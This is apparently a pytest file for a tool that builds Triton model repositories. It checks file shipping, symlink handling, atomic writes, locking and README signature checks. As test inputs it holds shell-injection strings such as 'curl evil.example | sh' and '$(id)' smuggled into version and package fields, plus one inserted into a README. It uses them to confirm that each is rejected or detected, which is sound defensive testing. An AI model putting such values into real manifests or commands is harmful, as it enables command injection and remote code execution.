"""What of an engine gets into a model repository, and what its manifest may put into shell lines there."""

from __future__ import annotations

import errno
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.made_run import CACHE, made_run, served_repository
from tests.tiny import save_tiny
from trsp_deploy import cli
from trsp_deploy.artifacts import RunFolder, fingerprint, write_json, writing_alone
from trsp_deploy.artifacts.layout import check_can_hold
from trsp_deploy.errors import RunError
from trsp_deploy.stages.triton_repository import write_repository
from trsp_deploy.tools.model_repository import generating_model
from trsp_deploy.tools.model_repository.generating_model import _link_engine, write_generating_model
from trsp_deploy.tools.model_repository.manifest import read_repository
from trsp_deploy.tools.runners.manifest import read_manifest

ENDS_THE_QUOTES = ["1.0'; curl evil.example | sh; '", "1.0\nRUN curl evil.example", "1.0 $(id)", "1.0`id`", '1"', "-r"]


@pytest.fixture
def engine(tmp_path: Path) -> Path:
    return made_run(tmp_path / "run") / "engines" / "ort-cpu-fp32" / "pruned"


def test_only_an_engines_own_files_are_shipped(engine: Path, tmp_path: Path) -> None:
    """Whatever lay in its folder was, with what a link there led to."""
    secret = tmp_path / "elsewhere"
    secret.mkdir()
    (secret / "key").write_text("secret")
    (engine / "notes.txt").write_text("mine")
    (engine / "folder").symlink_to(secret)
    (engine / "manifest.json.sig").write_text("signature")
    for name in ("trtexec.sh", "changed.onnx"):
        (engine / name).write_text(name)
    (engine / "linked.sh").symlink_to(secret / "key")
    beside = {name: fingerprint(engine / name) for name in ("trtexec.sh", "changed.onnx", "linked.sh")}
    (engine / "changed.onnx").write_text("other")
    manifest = read_manifest(engine).model_copy(update={"beside": {**beside, "gone.sh": "0"}})
    _link_engine(engine, manifest, tmp_path / "shipped")
    shipped = {path.name for path in (tmp_path / "shipped").rglob("*")}
    assert shipped == {"manifest.json", "manifest.json.sig", "model.onnx", "model.onnx.data", "trtexec.sh"}
    assert all(path.read_bytes() == (engine / path.name).read_bytes() for path in (tmp_path / "shipped").iterdir())


def test_a_signature_that_is_a_link_is_not_followed(engine: Path, tmp_path: Path) -> None:
    (tmp_path / "key").write_text("secret")
    (engine / "manifest.json.sig").symlink_to(tmp_path / "key")
    _link_engine(engine, read_manifest(engine), tmp_path / "shipped")
    assert not (tmp_path / "shipped" / "manifest.json.sig").exists()


@pytest.mark.parametrize("asked", [4, 1])
def test_fewer_texts_at_once_than_were_asked_for_are_said(
    asked: int, engine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The repository had 1, and nothing said that or why."""
    save_tiny("llama", tmp_path / "model")
    write_json(engine / "manifest.json", read_manifest(engine).model_copy(update={"padding": False}))
    monkeypatch.setattr(generating_model, "parse_config", lambda text, where: None)  # by a schema that is fetched
    said: list[str] = []
    model, folder = tmp_path / "model", tmp_path / "m"
    made = write_generating_model(engine, "pruned", "m", folder, model, max_length=8, max_batch=asked, say=said.append)
    assert made.max_batch == 1
    words = "--max-batch 4: m's engine ort-cpu-fp32 serves one text at a time: its graph gets padded texts wrong"
    assert said == ([words] if asked == 4 else [])


@pytest.mark.parametrize(("past", "places"), [("past", 9), (2048, 2048)])
def test_a_cache_of_fixed_length_is_there_whole(
    past: str | int, places: int, engine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """TensorRT's of 2,048 tokens was said to take what texts of `--max-length` do."""
    save_tiny("llama", tmp_path / "model")
    inputs = {name: (dtype, (*shape[:2], past, shape[3])) for name, (dtype, shape) in CACHE.items()}
    changes = {"padding": False, "inputs": inputs}
    write_json(engine / "manifest.json", read_manifest(engine).model_copy(update=changes))
    monkeypatch.setattr(generating_model, "parse_config", lambda text, where: None)  # by a schema that is fetched
    made = write_generating_model(
        engine, "pruned", "m", tmp_path / "m", tmp_path / "model", max_length=8, max_batch=1, say=print
    )
    assert made.cache_bytes == places * 2 * 2 * 16 * 4, "keys and values of 2 heads, each of 16 fp32 numbers"


@pytest.fixture
def write(engine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], object]:
    """Writes a repository of one model, without Triton's schema, which is fetched."""
    save_tiny("llama", tmp_path / "model")
    write_json(engine / "manifest.json", read_manifest(engine).model_copy(update={"padding": False}))
    monkeypatch.setattr(generating_model, "parse_config", lambda text, where: None)
    return lambda out: write_repository({"pruned": engine}, tmp_path / "model", {"pruned": "m"}, out, 1)


@pytest.fixture
def folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """The folders in tmp_path / "volume" / "models" before each rename of one: what a server that starts finds."""
    found: list[list[str]] = []
    replace = Path.replace

    def listen(self: Path, target: Path) -> Path:
        if self.is_dir():
            models = tmp_path / "volume" / "models"
            found.append(sorted(path.name for path in models.iterdir() if path.is_dir()))
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", listen)
    return found


def test_a_server_that_starts_meanwhile_finds_whole_models_alone(
    write: Callable[[Path], object], folders: list[list[str]], tmp_path: Path
) -> None:
    """Triton takes a folder for a model whatever its name, and does not start with one that is none."""
    out, killed = tmp_path / "volume" / "models", tmp_path / "volume" / ".models.partial" / ".m.partial"
    killed.mkdir(parents=True)
    write(out)
    for name in (".m.partial", ".old.former"):  # of a kill where there is no other place
        (out / name).mkdir()
    write(out)
    assert folders == [[], ["m"], []]
    assert sorted(path.name for path in out.iterdir()) == ["Dockerfile", "MANIFEST.json", "README.md", "m"]
    assert [path.name for path in out.parent.iterdir()] == ["models"]


def test_a_repository_on_a_disk_of_its_own_is_written_within(
    write: Callable[[Path], object], folders: list[list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such as a volume in a container: nothing can be renamed into it from beside it."""
    out = tmp_path / "volume" / "models"
    replace = Path.replace

    def within_a_disk(self: Path, target: Path) -> Path:
        if self.is_relative_to(out) != Path(target).is_relative_to(out):
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV), str(self))
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", within_a_disk)
    for _ in range(2):
        write(out)
    assert folders == [[".m.partial"], [".m.partial", "m"], [".m.former", ".m.partial"]]
    assert sorted(path.name for path in out.iterdir()) == ["Dockerfile", "MANIFEST.json", "README.md", "m"]
    assert [path.name for path in out.parent.iterdir()] == ["models"]


def test_a_readme_whose_commands_were_changed_is_found(
    write: Callable[[Path], object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It holds what people paste, and passed as whole, with a signature that is valid."""
    write(tmp_path / "models")
    assert cli.run(["verify", str(tmp_path / "models")]) == 0
    page = tmp_path / "models" / "README.md"
    page.write_text(page.read_text().replace("    docker run ", "    curl evil.example | sh; docker run ", 1))
    capsys.readouterr()
    assert cli.run(["verify", str(tmp_path / "models")]) == 2
    assert capsys.readouterr().out.startswith("changed: README.md: SHA-256")


def test_two_writers_of_a_repository_exclude_each_other(write: Callable[[Path], object], tmp_path: Path) -> None:
    out = tmp_path / "models"
    with writing_alone(out, within=True):
        with pytest.raises(RunError, match="models: in use by another trsp-deploy"):
            write(out)
        assert [path.name for path in out.iterdir()] == [".writing.lock"]
    write(out)
    (out / ".writing.lock").touch()  # as a kill leaves it: no run that was begun
    with pytest.raises(RunError, match=r"models: has MANIFEST\.json and is no run of"):
        check_can_hold(out, sweep=False)


def test_a_run_that_is_at_work_gives_no_repository(
    engine: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a build or a cleaning was replacing meanwhile was shipped, half of one and half of the other."""
    run = tmp_path / "run"
    with RunFolder(run):
        assert cli.run(["triton", str(run), "--out", str(tmp_path / "models")]) == 1
    assert f"{run}: in use by another trsp-deploy" in capsys.readouterr().err
    assert not (tmp_path / "models").exists()


def test_a_models_folder_takes_no_repository(
    engine: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With one in it the model had another fingerprint, and a run of it began anew."""
    monkeypatch.chdir(tmp_path)
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text("{}")
    assert cli.run(["triton", "run", "--out", "model", "--engine", "ort-cpu-fp32"]) == 1
    assert capsys.readouterr().err.splitlines()[-1].endswith("model: is a model's folder; choose another --out")
    assert [path.name for path in model.iterdir()] == ["config.json"]


@pytest.mark.parametrize("version", ENDS_THE_QUOTES)
def test_a_version_that_is_none_gets_into_no_shell_line(
    version: str, engine: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of an engine from somebody else the README's command and the Dockerfile would have run it."""
    manifest = json.loads((engine / "manifest.json").read_text())
    del manifest["sha256"]
    (engine / "manifest.json").write_text(json.dumps({**manifest, "backend_version": version}))
    assert cli.run(["triton", str(tmp_path / "run"), "--out", str(tmp_path / "out"), "--engine", "ort-cpu-fp32"]) == 1
    (line,) = capsys.readouterr().err.splitlines()
    assert "manifest.json: " in line and "'backend_version'" in line, line
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("package", ["onnxruntime==1'; id; '", "a b", "--index-url=https://evil.example", "x\nRUN id"])
def test_a_package_of_an_earlier_repository_is_one(package: str, tmp_path: Path) -> None:
    found: dict[str, Any] = served_repository()
    found["models"][0]["packages"] = [package]
    (tmp_path / "MANIFEST.json").write_text(json.dumps(found))
    with pytest.raises(RunError, match="packages"):
        read_repository(tmp_path)


@pytest.mark.parametrize("version", ["1.32.0", "10.13.0.35", "1.20.0+cu12.8", "1.23.0.dev20260901", "1.4.0-rc.1"])
def test_versions_of_packages_are_taken(version: str, engine: Path, tmp_path: Path) -> None:
    manifest = json.loads((engine / "manifest.json").read_text())
    del manifest["sha256"]
    copy = Path(shutil.copytree(engine, tmp_path / "copy"))
    (copy / "manifest.json").write_text(json.dumps({**manifest, "backend_version": version}))
    assert read_manifest(copy).backend_version == version
    found = served_repository()
    found["models"][0] |= {"backend_version": version, "packages": [f"onnxruntime=={version}", "pydantic>=2.12"]}
    (tmp_path / "MANIFEST.json").write_text(json.dumps(found))
    assert read_repository(tmp_path).models[0].backend_version == version
